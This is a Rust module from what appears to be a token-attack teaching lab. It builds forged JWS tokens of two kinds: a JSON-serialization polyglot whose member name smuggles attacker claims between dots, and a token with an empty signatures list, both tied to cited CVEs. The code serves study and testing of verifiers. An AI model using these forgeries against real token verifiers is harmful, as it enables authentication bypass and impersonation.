//! One text, two readers: a JWS in JSON serialization that is a compact token
//! as well, and one with an empty list of signatures.
//!
//! The flawed assumption: what was verified is what is read. JWS has three
//! serializations (RFC 7515 §7), JWT only the compact one (RFC 7519 §1). A
//! verifier whose library takes all of them, and which splits the text at its
//! dots to read the claims, has two parsers and no rule that they agree
//! (python-jwt, CVE-2022-39227). The general serialization holds a list of
//! signatures, and a loop over an empty list refuses nothing (Authlib,
//! CVE-2026-96760). draft-ietf-oauth-rfc8725bis §2.13 and §3.14 name the class.
//!
//! A PASETO and a Biscuit have one serialization each.

use serde_json::{Value, json};
use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::card::AttackProfile;
use crate::mint;
use crate::notebook::Notebook;
use crate::scheme::Scheme;
use crate::weakness::Weakness;

pub(super) struct JsonSerializationPolyglot;

static PROFILE: AttackProfile = AttackProfile {
    id: "json-serialization-polyglot",
    title: "Another serialization where a compact token belongs",
    assumption: "What was verified is what is read.",
    class: AttackClass::Format,
    given: &[],
    isolated: false,
    breaks: &[Weakness::TwoParsers, Weakness::NoSignatureDemanded],
    references: &[
        ("RFC 7519 §1", "JWTs are always compact."),
        (
            "RFC 7515 §7.2",
            "The JSON serializations: a list of signatures, or one of them flattened; unknown members are ignored.",
        ),
        (
            "draft-ietf-oauth-rfc8725bis §2.13",
            "A text that two parsers take for tokens of different formats.",
        ),
        (
            "draft-ietf-oauth-rfc8725bis §3.14",
            "A verifier of JWTs takes the compact serialization and no other.",
        ),
        (
            "CVE-2022-39227",
            "PyPI python-jwt before 3.3.4 verifies the JSON and reads the claims between the dots; fixed in 3.3.4.",
        ),
        (
            "CVE-2026-96760",
            "PyPI Authlib to 1.7.2: deserialize_json takes a JWS without a signature.",
        ),
    ],
    lesson: include_str!("../../lessons/json-serialization-polyglot.md"),
};

impl Attack for JsonSerializationPolyglot {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        let claims = mint::part(mint::jwt_payload(view.wanted())?);
        match view.scheme() {
            Scheme::Jwt(_) => Ok(vec![polyglot(view, &claims, notes)?, unsigned(&claims, notes)]),
            Scheme::Jwe(..) => Ok(vec![unsigned(&claims, notes)]),
            scheme => Err(CannotForge::Inexpressible {
                why: format!("{scheme} has one serialization, and it is no JSON"),
                tried: vec![
                    wrapped(view, notes),
                    Forgery {
                        analogue: Some("a JWS in JSON serialization takes the token's place".into()),
                        ..unsigned(&claims, notes)
                    },
                ],
            }),
        }
    }
}

/// Her honest token in flattened JSON, with a member whose name holds the two
/// dots and the claims between them.
fn polyglot(view: &AttackerView<'_>, claims: &str, notes: &mut Notebook) -> Result<Forgery, CannotForge> {
    let parts: Vec<&str> = view.sample().split('.').collect();
    let [protected, payload, signature] = parts.as_slice() else {
        return Err(CannotForge::Failed("the sample token has not three parts".into()));
    };
    let variant = "compact-within-json";
    notes.variant_step(
        variant,
        "Writes her honest token as JSON, and before it a member whose name has two dots, with other claims between them.",
        format!("{protected}.{claims}."),
    );
    // Written by hand: the members have to stand in this order.
    let token = format!(
        r#"{{"{protected}.{claims}.":"","protected":"{protected}","payload":"{payload}","signature":"{signature}"}}"#
    );
    Ok(Forgery::new(variant, token))
}

/// Claims with an empty list of signatures.
fn unsigned(claims: &str, notes: &mut Notebook) -> Forgery {
    let variant = "no-signatures";
    notes.variant_step(
        variant,
        "Writes the claims as JSON with a list of signatures, and leaves the list empty.",
        claims,
    );
    let token = json!({ "payload": claims, "signatures": Value::Array(Vec::new()) });
    Forgery::new(variant, token.to_string())
}

/// Her honest token within JSON of no format.
fn wrapped(view: &AttackerView<'_>, notes: &mut Notebook) -> Forgery {
    let variant = "wrapped-in-json";
    let token = json!({ "token": view.sample(), "sub": view.wanted().sub }).to_string();
    notes.variant_step(
        variant,
        "Writes her honest token as a member of a JSON object, with another subject beside it.",
        token.as_str(),
    );
    Forgery::analogue(
        variant,
        token,
        "JSON around the token is the nearest thing to another serialization",
    )
}
